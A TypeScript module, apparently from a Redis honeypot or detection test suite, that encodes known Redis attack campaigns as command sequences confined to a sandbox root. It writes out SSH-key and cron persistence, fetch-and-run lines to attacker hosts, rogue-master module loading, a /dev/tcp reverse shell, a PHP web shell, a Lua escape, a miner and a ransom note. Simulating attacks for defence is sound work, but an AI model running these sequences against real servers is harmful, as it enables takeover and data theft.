import type { Variant } from './variant.ts';

export type Command = [string, ...string[]];

export interface Family {
  /** Everything a visit sends, in order. What the server refuses is refused. */
  readonly commands: (variant: Variant & { readonly root: string }) => readonly Command[];
  /** The campaign that its reported form is to be named as. */
  readonly campaign?: string;
  /** It leaves nothing but the slow log: the server logs every command. */
  readonly logged?: true;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const SSH_KEY = `ssh-rsa ${base64(`\0\0\0\u0007ssh-rsa\0\0\0\u0003\u0001\0\u0001${'k'.repeat(256)}`)} x@y`;

/** Attacks of threats.md by what they send; the folders they aim at are ours (`root`), so that nothing is written elsewhere. */
export const FAMILIES: Readonly<Record<string, Family>> = {
  'an SSH key': {
    campaign: 'crackit-ssh',
    commands: ({ keys, before, after, spell, root }) => [
      [spell('flushall')],
      [spell('set'), keys[0] === 'backup1' ? 'crackit' : keys[0], `${before}${before}${SSH_KEY}${after}`],
      [spell('config'), 'set', 'dir', `${root}/root/.ssh/`],
      [spell('config'), 'set', 'dbfilename', 'authorized_keys'],
      [spell('save')],
    ],
  },
  'an account by cron': {
    campaign: 'useradd-cron',
    commands: ({ keys, before, after, spell }) => [
      [spell('set'), keys[0], `${before}*/1 * * * * root /usr/sbin/useradd -ou 0 -g 0 ${keys[1]}${after}`],
      [spell('set'), keys[2], `${before}*/1 * * * * root echo x | passwd --stdin ${keys[1]}${after}`],
    ],
  },
  'cron lines under four keys': {
    campaign: 'pnscan-backup',
    commands: ({ keys, before, after, schedule, drop, cronFile, spell, root }) => [
      [spell('config'), 'set', 'dbfilename', 'backup.db'],
      [spell('save')],
      [spell('config'), 'set', 'stop-writes-on-bgsave-error', 'no'],
      [spell('flushall')],
      ...keys.map((key): Command => [spell('set'), key, `${before}${schedule} ${drop}${after}`]),
      [spell('config'), 'set', 'dir', `${root}/var/spool/cron/`],
      [spell('config'), 'set', 'dbfilename', cronFile],
      [spell('save')],
      [spell('flushall')],
      ...keys.map((key): Command => [spell('set'), key, `${before}${schedule} root ${drop}${after}`]),
      [spell('config'), 'set', 'dir', `${root}/etc/cron.d/`],
      [spell('save')],
    ],
  },
  'one cron line in a list': {
    commands: ({ keys, before, after, schedule, drop, spell }) => [
      [spell('rpush'), keys[0], `\n\n${before}${schedule} root ${drop}${after}`],
    ],
  },
  'lynx into a file': {
    campaign: 'rediswannamine',
    commands: ({ keys, host, path, spell }) => [
      [
        spell('set'),
        keys[0] === 'backup1' ? 'Backup3' : keys[0],
        `\t\n*/10 * * * * lynx -source http://${host}${path} > .cmd && bash .cmd\n\t`,
      ],
    ],
  },
  'a module by a rogue master': {
    commands: ({ host, masterPort, module, spell }) => [
      [spell('slaveof'), host, String(masterPort)],
      [spell('config'), 'set', 'dbfilename', module],
      [spell('module'), 'load', `./${module}`],
      [spell('slaveof'), 'no', 'one'],
      ['system.exec', 'id'],
    ],
  },
  'p2pinfect, settings put back': {
    logged: true,
    commands: ({ host, masterPort, module, spell, root }) => [
      [spell('info'), 'server'],
      [spell('config'), 'set', 'rdbcompression', 'no'],
      [spell('save')],
      [spell('config'), 'set', 'rdbcompression', 'yes'],
      [spell('config'), 'set', 'dir', `${root}/tmp`],
      [spell('config'), 'set', 'dbfilename', module],
      [spell('slaveof'), host, String(masterPort)],
      [spell('module'), 'load', `/tmp/${module}`],
      [spell('slaveof'), 'no', 'one'],
      ['system.exec', `bash -c "exec 6<>/dev/tcp/${host}/${masterPort} && echo -n 'GET /linux' >&6"`],
      [spell('module'), 'unload', 'system'],
      [spell('config'), 'set', 'dir', `${root}/data`],
      [spell('config'), 'set', 'dbfilename', 'dump.rdb'],
    ],
  },
  'a master that stays': {
    commands: ({ host, masterPort, spell }) => [[spell('slaveof'), host, String(masterPort)]],
  },
  'settings off, then keys': {
    campaign: 'migo',
    commands: ({ keys, spell }) => [
      [spell('config'), 'set', 'protected-mode', 'no'],
      [spell('config'), 'set', 'replica-read-only', 'no'],
      [spell('config'), 'set', 'aof-rewrite-incremental-fsync', 'no'],
      [spell('config'), 'set', 'rdb-save-incremental-fsync', 'no'],
      [spell('set'), keys[0] === 'backup1' ? 'mimigo' : keys[0], 'x'],
    ],
  },
  'a command in base64': {
    commands: ({ keys, before, schedule, drop, spell }) => [
      [
        spell('set'),
        keys[0],
        `${before}${schedule} root echo ${base64(base64(drop))} | base64 -d | base64 -d | bash\n`,
      ],
    ],
  },
  'the Lua escape': {
    campaign: 'lua-escape-wave',
    logged: true,
    commands: ({ spell, drop }) => [
      [
        spell('eval'),
        `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); io.popen("${drop.slice(0, 20)}")`,
        '0',
      ],
    ],
  },
  'a web shell': {
    commands: ({ keys, spell, before }) => [
      [spell('set'), keys[0], `${before}<?php @eval($_POST["${keys[1]}"]); ?>\n`],
      [spell('config'), 'set', 'dbfilename', `${keys[2]}.php`],
    ],
  },
  'a reverse shell': {
    commands: ({ keys, host, port, spell, before, schedule }) => [
      [spell('set'), keys[0], `${before}${schedule} bash -i >& /dev/tcp/${host}/${port} 0>&1\n`],
    ],
  },
  'a library to preload': {
    commands: ({ keys, spell, module }) => [[spell('set'), keys[0], `\n\n/tmp/.${module}\n\n`]],
  },
  'a wipe and a note': {
    campaign: 'wipe-and-ransom',
    commands: ({ keys, spell }) => [
      [spell('flushall')],
      [
        spell('set'),
        keys[0],
        'All your data is backed up. You must pay 0.012 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa to recover it.\nWrite to a@b.example.invalid.',
      ],
    ],
  },
  'a program in a key': {
    commands: ({ keys, spell }) => [
      [spell('set'), keys[0], '\x7fELF\u0002\u0001\u0001\0\0\0\0\0\0\0\0\0\u0003\0>\0\u0001\0\0\0'],
    ],
  },
  'a miner': {
    commands: ({ keys, spell, host }) => [
      [spell('set'), keys[0], `nohup /tmp/.${keys[1]} -o stratum+tcp://${host}:3333 -u 4xWALLET -p x &`],
    ],
  },
  'hosts of TeamTNT and Skidmap': {
    campaign: 'skidmap',
    commands: ({ keys, spell, before }) => [
      [spell('set'), keys[0], `${before}*/1 * * * * root curl -fsSL http://a.powerofwish.com/pm.sh | sh\n`],
      [spell('set'), keys[1], `${before}*/1 * * * * root curl http://teamtnt.red/x | bash\n`],
    ],
  },
};
